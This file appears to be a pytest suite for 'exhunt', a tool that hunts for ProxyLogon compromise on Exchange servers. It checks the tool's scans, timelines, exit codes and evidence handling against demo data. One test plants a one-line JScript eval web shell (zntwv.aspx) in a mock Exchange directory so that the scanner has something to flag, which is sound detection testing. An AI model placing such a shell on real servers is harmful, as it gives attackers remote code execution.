"""The command line and the demo evidence end to end, in real processes where it matters."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import jsonschema
import pytest

from exhunt.cli import main
from exhunt.demo import HOSTS, generate
from exhunt.outputs.contract import SCHEMA_FILE

REPO = Path(__file__).resolve().parents[1]
EXAMPLES = REPO / "examples"
EXPECTED = {host.name: host.expected_stage for host in HOSTS}


def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """Run ``exhunt`` as its own process, not attached to a terminal."""
    return subprocess.run([sys.executable, "-m", "exhunt.cli", *args], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=300, check=False)


@pytest.fixture(scope="module")
def schema() -> dict:
    return json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))


def test_examples_scan_gives_each_demo_host_its_stage(tmp_path: Path, schema: dict) -> None:
    out = tmp_path / "result.json"
    proc = run("scan", str(EXAMPLES), "--json", str(out), env={"NO_COLOR": "1"})
    assert proc.returncode == 0, proc.stderr
    document = json.loads(out.read_text(encoding="utf-8"))
    jsonschema.validate(document, schema)
    assert {h["host"]: h["stage"] for h in document["hosts"]} == EXPECTED
    assert "\x1b[" not in proc.stdout  # no colour when not a terminal
    host_table, rest = proc.stdout.split("exhunt: coverage")
    coverage_table, mailbox_table = rest.split("exhunt: mailboxes")
    coverage = [[cell.strip() for cell in line.split("│")[1:8]] for line in coverage_table.splitlines()
                if line.startswith("│ EXCH")]
    assert ["EXCH01", "httpproxy"] in [row[:2] for row in coverage]
    assert all(row[4] <= row[5] for row in coverage if row[4] != "-")
    rows = [line for line in host_table.splitlines() if line.startswith("│ EXCH")]
    assert [row.split("│")[1].strip() for row in rows] == sorted(EXPECTED)
    for row in rows:
        name, stage = (cell.strip() for cell in row.split("│")[1:3])
        assert stage == EXPECTED[name]
    exch01 = next(h for h in document["hosts"] if h["host"] == "EXCH01")
    assert exch01["exposure"]["build"] == "15.1.2176.2"
    assert "CVE-2021-26855" in exch01["exposure"]["unpatched"]
    assert any(r.startswith("PL-WS-5-USE") for r in exch01["stage_reasons"])
    assert any("CVE-2021-26857 not assessed" in gap for gap in exch01["not_assessed"])
    mailbox_rows = [[cell.strip() for cell in line.split("│")[1:4]] for line in mailbox_table.splitlines()
                    if line.startswith("│ EXCH")]
    assert ["EXCH05", "bob", "confirmed exported"] in mailbox_rows
    assert ["EXCH06", "alice@contoso.com", "accessed"] in mailbox_rows
    assert [row["verdict"] for row in document["mailboxes"] if row["host"] == "EXCH05"] == ["confirmed exported"]
    incident = next(i for i in document["incidents"] if i["host"] == "EXCH01")
    assert incident["attacker_ips"][0] == "203.0.113.45"


def test_timeline_orders_the_demo_attacks(tmp_path: Path) -> None:
    proc = run("timeline", str(EXAMPLES), "--format", "jsonl", "--level", "medium")
    assert proc.returncode == 0, proc.stderr
    rows = [json.loads(line) for line in proc.stdout.splitlines()]
    assert [row["time"] for row in rows] == sorted(row["time"] for row in rows)
    assert {row["host"] for row in rows} >= {"EXCH01", "EXCH02", "EXCH04", "EXCH05", "EXCH06", "EXCH08"}
    first = {}
    for row in rows:
        first.setdefault((row["host"], row["rule"]), row["time"])
    # EXCH01 runs the whole ProxyLogon chain: SSRF, then the OAB virtual directory write, then shell use.
    assert first["EXCH01", "PL-SSRF-1"] < first["EXCH01", "PL-27065-3"] < first["EXCH01", "PL-WS-5-USE"]
    case = tmp_path / "scan.case"
    assert main(["scan", str(EXAMPLES), "-q", "--case", str(case)]) == 0
    again = run("timeline", "--case", str(case), "--format", "jsonl", "--level", "medium")
    assert [json.loads(line) for line in again.stdout.splitlines()] == rows
    table = run("timeline", str(EXAMPLES / "EXCH01"), "--from", "2021-03-03T06:49:00Z", "--to", "2021-03-03T06:51Z",
                "--level", "medium", env={"NO_COLOR": "1", "COLUMNS": "250"})
    assert table.returncode == 0, table.stderr
    shown = [line.split("│")[3].strip() for line in table.stdout.splitlines() if line.startswith("│ 2021")]
    assert shown.index("PL-SSRF-1") < shown.index("PL-26858-1") and "PL-SSRF-5" not in shown  # 06:41 is out
    assert main(["timeline"]) == 1 and main(["timeline", str(EXAMPLES), "--case", str(case)]) == 1


def test_output_dir_and_json_to_stdout(tmp_path: Path, schema: dict) -> None:
    proc = run("scan", str(EXAMPLES / "EXCH04"), "-o", str(tmp_path / "out"), "--json", "-")
    assert proc.returncode == 0, proc.stderr
    document = json.loads(proc.stdout)  # stdout holds only the JSON; the table went to stderr
    jsonschema.validate(document, schema)
    lines = (tmp_path / "out" / "findings.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(document["findings"]) > 0
    finding_schema = {**schema["$defs"]["finding"], "$defs": schema["$defs"]}
    for line in lines:
        jsonschema.validate(json.loads(line), finding_schema)
    assert json.loads((tmp_path / "out" / "summary.json").read_text())["hosts"][0]["stage"] == "exploited"


def test_exit_codes() -> None:
    assert main(["scan", str(EXAMPLES / "EXCH03.zip"), "-q", "--fail-on", "low"]) == 0
    assert main(["scan", str(EXAMPLES / "EXCH02.zip"), "-q", "--fail-on", "medium"]) == 3
    assert main(["scan", str(EXAMPLES / "EXCH02.zip"), "-q", "--fail-on", "critical"]) == 0
    assert main(["scan", str(EXAMPLES), "-q", "--host", "ONE"]) == 1  # one name for four hosts
    assert main(["scan", str(EXAMPLES), "-q", "--from", "yesterday"]) == 1
    assert main(["no-such-command"]) == 1
    assert main(["scan"]) == 1


def test_no_pivot(tmp_path: Path) -> None:
    with_pivot, without = tmp_path / "on.json", tmp_path / "off.json"
    assert main(["scan", str(EXAMPLES / "EXCH02.zip"), "-q", "--json", str(with_pivot)]) == 0
    assert main(["scan", str(EXAMPLES / "EXCH02.zip"), "-q", "--json", str(without), "--no-pivot"]) == 0
    on, off = (json.loads(path.read_text(encoding="utf-8"))["findings"] for path in (with_pivot, without))
    assert [f for f in on if not f["rule"].startswith("PIVOT-")] == off
    assert any(f["rule"] == "PIVOT-IP" and f["level"] == "informational" for f in on)


def test_time_window_limits_findings(tmp_path: Path) -> None:
    out = tmp_path / "r.json"
    assert main(["scan", str(EXAMPLES / "EXCH01"), "-q", "--json", str(out), "--from", "2021-03-04",
                 "--to", "2021-03-05T23:59:59Z"]) == 0
    document = json.loads(out.read_text())
    times = [f["time"] for f in document["findings"]]
    assert times and all("2021-03-04T" <= t <= "2021-03-05T23:59:59.999Z" for t in times)
    assert document["hosts"][0]["stage"] == "compromised"  # shell use continues in the window


def test_missing_path_is_a_diagnostic_and_the_rest_is_scanned(tmp_path: Path) -> None:
    out = tmp_path / "r.json"
    assert main(["scan", str(tmp_path / "absent"), str(EXAMPLES / "EXCH03.zip"), "-q", "--json", str(out)]) == 0
    document = json.loads(out.read_text())
    assert [h["host"] for h in document["hosts"]] == ["EXCH03"]
    assert any(d["code"] == "EXH-L001" for d in document["diagnostics"])


def _fingerprint(root: Path) -> dict[str, tuple[str, int, int]]:
    return {str(p.relative_to(root)): (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns,
                                       p.stat().st_mode) for p in sorted(root.rglob("*")) if p.is_file()}


def test_read_only_evidence_is_scanned_and_left_untouched(tmp_path: Path) -> None:
    evidence = tmp_path / "evidence"
    shutil.copytree(EXAMPLES, evidence)
    paths = [evidence, *evidence.rglob("*")]
    for path in paths:
        path.chmod(path.stat().st_mode & ~(stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH))
    before = _fingerprint(evidence)
    try:
        proc = run("scan", str(evidence), "--json", str(tmp_path / "r.json"))
        assert proc.returncode == 0, proc.stderr
        assert _fingerprint(evidence) == before
        stages = {h["host"]: h["stage"] for h in json.loads((tmp_path / "r.json").read_text())["hosts"]}
        assert stages == EXPECTED
    finally:
        for path in paths:
            path.chmod(path.stat().st_mode | stat.S_IWUSR)


def _tree(root: Path) -> dict[str, bytes]:
    """Every file's bytes; zips by member, since compressed bytes may differ between zlib builds."""
    files: dict[str, bytes] = {}
    for path in sorted(root.rglob("*")):
        if not path.is_file():
            continue
        name = str(path.relative_to(root))
        if path.suffix == ".zip":
            with zipfile.ZipFile(path) as archive:
                files.update({f"{name}!{m}": archive.read(m) for m in sorted(archive.namelist())})
        else:
            files[name] = path.read_bytes()
    return files


def test_committed_examples_match_the_generator(tmp_path: Path) -> None:
    generate(tmp_path)
    assert _tree(tmp_path) == _tree(EXAMPLES), "examples/ is stale: run `exhunt demo examples`"


def test_rules_command_lists_every_rule() -> None:
    proc = run("rules", env={"COLUMNS": "200"})
    assert proc.returncode == 0, proc.stderr
    for rule in ("PL-SSRF-1", "PL-SSRF-1a", "PL-26858-1", "PL-27065-2", "PL-SCAN-1", "PL-WS-5"):
        assert f"│ {rule} " in proc.stdout
    assert "PL-WS-5-base" not in proc.stdout  # hidden helper of a correlation
    prefilter = {line.split("│")[1].strip(): line.split("│")[-2].strip() for line in proc.stdout.splitlines()
                 if line.startswith("│")}
    assert prefilter["PL-26857-1"] == "channel, event ID" and prefilter["PL-SSRF-1"] == "serverinfo~"
    assert prefilter["PNS-OWA-2-ATTEMPT"] == "full parse"  # any ClientInfo (\w): Rps_Http is parsed in full
    assert prefilter["ARCH-STAGING-1"] == "-"  # a file-tree rule
    assert prefilter["PNS-SSRF-2"] in ("%-encoded, autodiscover", "%-encoded, powershell")  # cs-uri-decoded


def test_baseline_scan_and_collect(tmp_path: Path) -> None:
    """A known-good server's baseline, then the same server with one planted shell."""
    root = tmp_path / "EXCH09"
    web = root / "Program Files" / "Microsoft" / "Exchange Server" / "V15" / "FrontEnd" / "HttpProxy" / "owa" / "auth"
    web.mkdir(parents=True)
    (root / "Windows").mkdir()
    (web / "logon.aspx").write_text('<%@ Page Language="C#" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n')
    (web / "errorFE.aspx").write_text('<%@ Page Language="C#" %>\n<html><body>Error</body></html>\n')
    baseline = tmp_path / "known-good.csv"
    assert main(["baseline", str(root), "-o", str(baseline)]) == 0
    assert baseline.read_text().count("\n") >= 2
    shell = web / "zntwv.aspx"
    shell.write_text('<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>')
    out, collected = tmp_path / "r.json", tmp_path / "collected"
    assert main(["scan", str(root), "-q", "--baseline", str(baseline), "--collect", str(collected),
                 "--json", str(out)]) == 0
    document = json.loads(out.read_text())
    flagged = {f["source"] for f in document["findings"] if f["source_kind"] == "file"}
    assert flagged == {"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\zntwv.aspx"}
    assert document["hosts"][0]["stage"] == "compromised"
    (archive,) = collected.glob("*.zip")
    with zipfile.ZipFile(archive) as packed:
        names = packed.namelist()
        manifest = packed.read("manifest.csv").decode()
        assert "zntwv.aspx" in manifest
        stored = [n for n in names if n.startswith("files/")]
        assert [packed.read(n) for n in stored] == [shell.read_bytes()]
    assert all(".." not in n and not n.startswith("/") for n in names)


def test_no_cache_writes_nothing_but_the_outputs(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    for extra in (["--no-cache"], []):
        proc = run("scan", str(EXAMPLES / "EXCH01"), "-q", "--json", str(tmp_path / "r.json"), *extra,
                   env={"EXHUNT_CACHE_DIR": str(cache)})
        assert proc.returncode == 0, proc.stderr
        assert cache.exists() is not bool(extra)  # the cache is made only without --no-cache


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_output_that_cannot_be_written_is_an_error() -> None:
    """A JSON document small enough to wait in stdout's buffer until exit, on a full disk: the exit code and a
    message say it was lost (the process ends without the interpreter's own last flush)."""
    env = {key: value for key, value in os.environ.items() if key != "PYTHONUNBUFFERED"}
    with open("/dev/full", "w") as full:
        proc = subprocess.run([sys.executable, "-m", "exhunt.cli", "scan", "/nonexistent", "-q", "--json", "-"],
                              stdout=full, stderr=subprocess.PIPE, text=True, env=env, timeout=300, check=False)
    assert proc.returncode == 1 and "could not be written" in proc.stderr
